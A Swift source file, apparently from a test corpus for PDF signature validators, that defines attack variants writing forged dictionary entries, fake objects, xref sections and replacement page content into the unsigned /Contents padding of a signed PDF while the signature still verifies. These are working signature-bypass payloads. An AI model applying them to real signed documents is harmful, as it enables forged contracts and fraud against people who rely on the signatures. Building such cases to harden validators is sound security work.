// PDFAttack+hole.swift
internal import AntinPDF

// The hole of /Contents is the one part that no digest covers, and it is large. These put something
// else there than one CMS and zeros; the digest and the signature value hold in all of them.

extension PDFAttack {
    /// Puts text over the end of the padding; the last byte of the hole stays before `>`.
    private static func padding(
        _ name: String, _ text: @escaping @Sendable (SignedVictim) throws -> String?
    ) -> PDFAttack {
        PDFAttack("hole." + name, .hole, .structure) { victim in
            guard let hole = victim.hole, let message = victim.message,
                let text = try text(victim)
            else { return nil }
            let start = hole.upperBound - text.utf8.count
            guard start >= hole.lowerBound + 2 * message.count else { return nil }
            return victim.replacing(start..<hole.upperBound, by: text)
        }
    }

    static let holes: [PDFAttack] = [
        // The string ends early; the rest of the hole is more of the dictionary.
        padding("reason") { _ in ">/Reason(Da huy)/Z<00" },
        padding("name") { _ in ">/Name(Nguoi khac)/Z<00" },
        padding("range") { _ in ">/ByteRange[0 1 2 3]/Z<00" },
        padding("contents") { _ in ">/Contents<3000>/Z<00" },
        padding("subFilter") { _ in ">/SubFilter/Unknown/Z<00" },
        padding("reference") { _ in
            ">/Reference[<</TransformMethod/DocMDP/TransformParams<</P 3>>>>]/Z<00"
        },
        padding("comment") { _ in "%trang gia\n00" },
        padding("space") { _ in "    00" },
        padding("nulls") { _ in "\0\0\0\0" },
        padding("lineEnds") { _ in "\r\n\r\n00" },
        padding("notHex") { _ in "0x0z00" },
        padding("notZero") { _ in "0001" },
        padding("secondMessage") { _ in "300302010100" },
        padding("mixedCase") { _ in "aA" },
        // Whole objects that an object scan finds and a cross-reference does not.
        padding("object") { _ in ">>endobj 4 0 obj<</Type/Page>>endobj 9 0 obj<</Z<00" },
        padding("section") { _ in ">>endobj xref 0 0 trailer<</Size 1>>startxref 9 %%EOF <00" },
        padding("marker") { _ in "%%EOF\n00" },
        PDFAttack("hole.caseOfMessage", .hole, .structure) { victim in
            // One letter of the message in the other case: same bytes, another spelling.
            guard let hole = victim.hole,
                let place = victim.bytes[hole].firstIndex(where: { ("a"..."f").holds($0) })
                    ?? victim.bytes[hole].firstIndex(where: { ("A"..."F").holds($0) })
            else { return nil }
            var bytes = victim.bytes
            bytes[place] ^= 0x20
            return bytes
        },
        PDFAttack("hole.replacedContent", .hole, .structure) { victim in
            // An update whose page content lies inside the hole of the last signature.
            guard let hole = victim.hole, let message = victim.message,
                let content = try victim.content
            else { return nil }
            let text =
                ">>endobj \(content.number) 0 obj<</Length 2>>stream\nET\nendstream endobj 9 0 obj<</Z<00"
            let start = hole.upperBound - text.utf8.count
            guard start >= hole.lowerBound + 2 * message.count,
                let offset = Array(text.utf8).first("\(content.number) 0 obj")
            else { return nil }
            let changed = victim.replacing(start..<hole.upperBound, by: text)
            var update = PDFUpdate(base: changed, of: victim)
            update.entries[content.number] = PDFSpelling.offset(start + offset)
            return update.bytes
        },
    ]
}

extension ClosedRange<String> {
    fileprivate func holds(_ byte: UInt8) -> Bool {
        self.contains(String(UnicodeScalar(byte)))
    }
}
